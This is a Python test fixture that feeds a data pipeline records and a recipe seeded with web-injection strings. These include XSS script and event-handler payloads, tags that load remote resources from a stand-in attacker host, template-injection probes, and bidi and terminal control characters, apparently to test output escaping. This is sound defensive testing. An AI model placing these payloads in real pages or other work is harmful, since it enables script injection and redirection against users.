"""Texts that would run, load, steer or hide something where a page takes them at their word."""

ATTACKS = (
    "<script>window.canary=1;alert(1)</script>",
    "<ScRiPt src=//attack.invalid/a.js></sCrIpT>",
    '<img src=x onerror="window.canary=1;alert(2)">',
    "<img src=http://attack.invalid/pixel.png>",
    "</style><style>@import 'http://attack.invalid/a.css';body{display:none}</style>",
    "</style><script>window.canary=1</script>",
    "</script><script>window.canary=1</script>",
    "</title></head><body onload=window.canary=1>",
    "<svg onload=window.canary=1><animate onbegin=window.canary=1 attributeName=x dur=1s></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' onload='window.canary=1'/>#x\"/></svg>",
    '<a href="javascript:window.canary=1">点我</a> javascript:window.canary=1',
    "<details open ontoggle=window.canary=1>",
    '<meta http-equiv=refresh content="0;url=http://attack.invalid/">',
    "<base href=http://attack.invalid/>",
    "<link rel=stylesheet href=http://attack.invalid/b.css>",
    '<iframe srcdoc="<script>parent.canary=1</script>"></iframe>',
    "<object data=http://attack.invalid/c.swf></object><embed src=http://attack.invalid/d>",
    "<form action=http://attack.invalid/><button autofocus onfocus=window.canary=1>",
    '<div style="background:url(http://attack.invalid/e.png)">',
    "<textarea><!--<![CDATA[<title><noscript><plaintext>",
    '" onmouseover="window.canary=1" x="\' autofocus onfocus=\'window.canary=1',
    "{{ 7 * 7 }} {% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %} ${7*7}",
    "左\u202e右\u202c \u2066甲\u2069 \u200b乙\u200f\ufeff",
    "\x1b[31m红\x1b[0m \x1b]0;title\x07 \x9b2J \x00 \x08",
)
NAME = "<img src=x onerror=window.canary=1>.jsonl"


def told(i, attack):
    """Records that meet an attack at every stage, each with a different fate."""
    asked = f"请解释第{i}段代码的含义和它可能带来的安全问题：{attack}"
    answer = f"这段代码{attack}属于第{i}种注入攻击，应当对所有输出进行转义，并且设置严格的策略。"
    kept = {"instruction": asked, "output": answer, "id": attack, "category": attack}
    return [
        kept,
        {**kept, "id": f"b{i}"},  # a duplicate
        {"instruction": f"{asked}  \n\n\n\n完", "output": f"\u200b  {answer}  "},  # edited
        {"instruction": f"翻译第{i}句：{attack}", "output": "无"},  # a placeholder
        {"instruction": asked, "output": ""},
        {attack: attack, "text": attack},  # an unknown format, whose keys are the evidence
        {"conversations": [{"from": attack, "value": attack}, {"from": "gpt", "value": answer}]},
        '{"instruction": "' + attack,  # no JSON, quoted in the evidence
        {"instruction": f"Explain part {i} of this: {attack}", "output": f"It is code {attack}."},
        {"instruction": f"介绍一下自己 {attack}", "output": f"我是ChatGPT，由OpenAI训练。{attack}"},
        {
            "instruction": f"我的电话13912345678{attack}怎么改？",
            "output": f"请登录{attack}后修改第{i}项设置。",
        },
        {
            "instruction": f"标签[INST]{attack}是什么？",
            "output": f"这是第{i}个控制标签</s>{attack}的写法。",
        },
    ]


RECORDS = {
    NAME: [record for i, attack in enumerate(ATTACKS) for record in told(i, attack)],
    "b.jsonl": [told(i, attack)[0] for i, attack in enumerate(ATTACKS)],
}
RECIPE = {
    "name": "attacked",
    "description": " ".join(ATTACKS),
    "sources": [{"name": "first", "path": "*>.jsonl"}, {"name": "second", "path": "b.jsonl"}],
    "stages": {"quality": {"min_score": 0.3}},
}
